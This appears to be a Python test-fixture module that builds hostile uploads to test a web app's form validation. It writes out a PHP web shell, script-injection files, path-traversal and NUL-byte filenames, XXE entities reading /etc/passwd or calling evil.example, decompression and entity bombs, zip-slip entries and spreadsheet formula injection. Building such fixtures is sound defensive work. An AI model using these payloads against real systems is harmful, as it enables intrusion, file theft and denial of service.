"""Files that nobody should send, and a form's body as a browser would not write it."""

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.factories.banking import HEADINGS as BANK
from tests.factories.sheets import make_xlsx, repacked, row

SECRET = b"SecretPhone"
SCRIPT = b"<script>alert(1)</script>"
PDF = b"%PDF-1.4\n%%EOF\n"


@dataclass(frozen=True)
class Sent:
    """A file as it is sent: how it calls itself, what it says it is, what is in it."""

    name: bytes
    content: bytes
    kind: str = "image/jpeg"


def _picture(mode: str = "RGB", kind: str = "JPEG", size: tuple[int, int] = (48, 32), **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **save)
    return out.getvalue()


def exif() -> bytes:
    """What a phone writes: its make, how it was held, where it was."""
    found = Image.Exif()
    found[0x010F], found[0x0112] = SECRET.decode(), 6
    found[0x8825] = {1: "N", 2: (39.0, 8.0, 1.0), 3: "E", 4: (117.0, 1.0, 1.0)}
    return found.tobytes()


def _moving(kind: str) -> bytes:
    return _picture(kind=kind, save_all=True, append_images=[Image.new("RGB", (48, 32), "red")], exif=exif())


def _claims(width: int, height: int) -> bytes:
    """A PNG of a hundred bytes that says it unpacks to so many pixels."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x01\x00\x00\x00\x00"
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 90)), (b"IEND", b"")]
    whole = [len(c).to_bytes(4, "big") + n + c + zlib.crc32(n + c).to_bytes(4, "big") for n, c in parts]
    return b"\x89PNG\r\n\x1a\n" + b"".join(whole)


def _zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


@cache
def pictures() -> dict[str, Sent]:
    """What comes where a picture or a scanned document is asked for."""
    jpeg, place = _picture(), _picture(exif=exif())
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    html = b"<!doctype html>" + SCRIPT
    php = b"<?php system($_GET['c']); ?>"
    names = {
        "a path": b"../../../../etc/passwd.jpg",
        "a path of Windows": b"..\\..\\a.jpg",
        "a whole path": b"/etc/cron.d/a.jpg",
        "a NUL": b"a.php\x00.jpg",
        "two endings": b"a.php.jpg",
        "two endings turned round": b"a.jpg.php",
        "an ending for a browser": b"a.jpg.html",
        "a very long one": b"a" * 4000 + b".jpg",
        "a long one of Chinese": "夏".encode() * 300 + b".jpg",
        "writing backwards": "a\u202egpj.exe".encode(),
        "nothing but dots": b"...",
        "a hidden file": b".htaccess",
        "no UTF-8": b"\xff\xfe\xed\xa0\x80.jpg",
        "markup": SCRIPT + b".jpg",
        "spaces and a header": b"a.jpg; X-Evil: 1",
    }
    return {
        "svg": Sent(b"a.svg", svg, "image/svg+xml"),
        "svg called jpg": Sent(b"a.jpg", svg),
        "html": Sent(b"a.html", html, "text/html"),
        "html called pdf": Sent(b"a.pdf", html, "application/pdf"),
        "php": Sent(b"a.php", php, "application/x-php"),
        "php called jpg": Sent(b"a.jpg", php),
        "jpeg then html": Sent(b"a.jpg", jpeg + html),
        "jpeg then php": Sent(b"a.php", jpeg + php),
        "jpeg then zip": Sent(b"a.jpg", jpeg + _zip(a=b"x")),
        "jpeg with html in its comment": Sent(b"a.html", _picture(comment=html), "text/html"),
        "jpeg that names itself a pdf": Sent(b"a.pdf", _picture(comment=PDF, exif=exif()), "application/pdf"),
        "gif with script": Sent(b"a.gif", b"GIF89a/*" + SCRIPT + b"*/=1;", "image/gif"),
        "bmp with script": Sent(b"a.bmp", b"BM" + SCRIPT, "image/bmp"),
        "a program": Sent(b"a.jpg", b"MZ\x90\x00" + b"\0" * 500),
        "a program called pdf": Sent(b"a.pdf", b"\x7fELF" + b"\0" * 500, "application/pdf"),
        "eps": Sent(b"a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n"),
        "tiff": Sent(b"a.jpg", _picture(kind="TIFF"), "image/tiff"),
        "gif": Sent(b"a.jpg", _picture(kind="GIF"), "image/gif"),
        "icon": Sent(b"a.ico", _picture(kind="ICO"), "image/x-icon"),
        "a zip": Sent(b"a.zip", _zip(a=b"x"), "application/zip"),
        "a zip that unpacks to much": Sent(b"a.jpg", _zip(a=b"\0" * 5_000_000)),
        "empty": Sent(b"a.jpg", b""),
        "half": Sent(b"a.jpg", place[: len(place) // 2]),
        "only its first bytes": Sent(b"a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
        "a broken png": Sent(b"a.png", b"\x89PNG\r\n\x1a\n" + b"\xff" * 100, "image/png"),
        "a broken webp": Sent(b"a.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 " + b"\xff" * 50, "image/webp"),
        "far too many pixels": Sent(b"a.png", _claims(60_000, 60_000), "image/png"),
        "too many pixels": Sent(b"a.png", _claims(8_000, 6_000), "image/png"),
        "a place": Sent(b"a.jpg", place),
        "a place in png": Sent(b"a.png", _picture("RGBA", "PNG", exif=exif()), "image/png"),
        "a place in webp": Sent(b"a.webp", _picture(kind="WEBP", exif=exif()), "image/webp"),
        "a place that nobody can read": Sent(b"a.png", _unreadable(), "image/png"),
        "colours for print": Sent(b"a.jpg", _picture("CMYK", exif=exif())),
        "a moving png": Sent(b"a.png", _moving("PNG"), "image/png"),
        "a moving webp": Sent(b"a.webp", _moving("WEBP"), "image/webp"),
        "two pictures in one": Sent(b"a.jpg", _moving("MPO")),
        "another type": Sent(b"a.jpg", place, "text/html"),
        "a type that is none": Sent(b"a.jpg", place, "x" * 300),
    } | {f"named {which}": Sent(name, place) for which, name in names.items()}


def _unreadable() -> bytes:
    """Metadata of an order of bytes that there is not, in a good picture."""
    webp = _picture(kind="WEBP", exif=exif())
    return webp.replace(b"MM\x00*", b"xM\x00*").replace(b"II*\x00", b"xI*\x00")


def large() -> dict[str, Sent]:
    """What is larger than any form takes."""
    return {
        "a large pdf": Sent(b"a.pdf", PDF + b"0" * 20_000_000, "application/pdf"),
        "a large picture": Sent(b"a.jpg", _picture() + b"0" * 10_000_000),
    }


_WS = (
    '<?xml version="1.0"?>{}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'
)
_LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
_CELL = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData>'


@cache
def bad_sheets() -> dict[str, Sent]:
    """What comes where a list is asked for, and is never one."""
    outside = '<!DOCTYPE w [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
    elsewhere = '<!DOCTYPE w SYSTEM "http://evil.example/a.dtd">'
    parts = {
        "entities that multiply": _WS.format(_LAUGHS + "]>", _CELL.format("&i;")),
        "a file of the server": _WS.format(outside, _CELL.format("&i;")),
        "an address elsewhere": _WS.format(elsewhere, _CELL.format("&i;")),
        "a sheet that unpacks to much": " " * 17_000_000,
        "endless rows": _WS.format("", "<sheetData>" + "<row/>" * 150_001 + "</sheetData>"),
        "a row far away": _WS.format("", '<sheetData><row r="99999999999"/></sheetData>'),
        "torn marks": _WS.format("", "<sheetData><row"),
    }
    given = {which: repacked(make_xlsx(row()), sheet1=part).read() for which, part in parts.items()}
    given["entities in the styles"] = repacked(make_xlsx(row()), styles=_LAUGHS + "]><styleSheet/>").read()
    given["too many parts"] = _zip(**{f"p{n}": b"" for n in range(301)})
    given["a zip of something else"] = _zip(a=b"x")
    given["a path in the zip"] = _zip(**{"../../../etc/cron.d/a": b"x"})
    given["half"] = make_xlsx(row()).read()[:300]
    given["an old one or one with a password"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    given["html"] = b"<table><tr><td>" + SCRIPT
    given["only a mark"] = b"PK\x03\x04"
    given["nothing"] = b""
    given["NULs"] = b"\x00" * 100
    given["no encoding"] = b"\xff\xfe\xff" * 50
    given["a quote that never ends"] = b'"' + b"a" * 200_000
    given["too large"] = b"PK" + b"0" * 2_000_000
    return {which: Sent(b"a.xlsx", content, "application/vnd.ms-excel") for which, content in given.items()}


FORMULAS = ("=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1")


def lists_of_formulas() -> Iterator[Sent]:
    """Lists of families in which a name is a formula, one each."""
    for formula in FORMULAS:
        yield Sent(b"a.xlsx", make_xlsx(row(a=f"'{formula}")).read())
        yield Sent(b"a.xlsx", make_xlsx(row(a=formula)).read())


def statements_of_formulas() -> Iterator[Sent]:
    """Statements of a bank whose remark or counterparty is a formula."""
    for n, formula in enumerate(FORMULAS):
        quoted = formula.replace('"', '""')
        line = f'2026-11-20,ATTACK{n},1.00,,"{quoted}",6222,"{quoted}"\n'
        yield Sent(b"a.csv", (",".join(BANK) + "\n" + line).encode(), "text/csv")


def body(fields: dict[str, object], files: list[tuple[str, Sent]]) -> tuple[bytes, str]:
    """A form's body with its content type. Names stand as they are: Django's client would take paths off them."""
    mark = b"----attack"
    out = [
        b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (mark, name.encode(), str(value).encode())
        for name, value in fields.items()
    ]
    for name, sent in files:
        head = b'Content-Disposition: form-data; name="%s"; filename="%s"' % (name.encode(), sent.name)
        out.append(b"--%s\r\n%s\r\nContent-Type: %s\r\n\r\n%s\r\n" % (mark, head, sent.kind.encode(), sent.content))
    return b"".join([*out, b"--%s--\r\n" % mark]), "multipart/form-data; boundary=----attack"
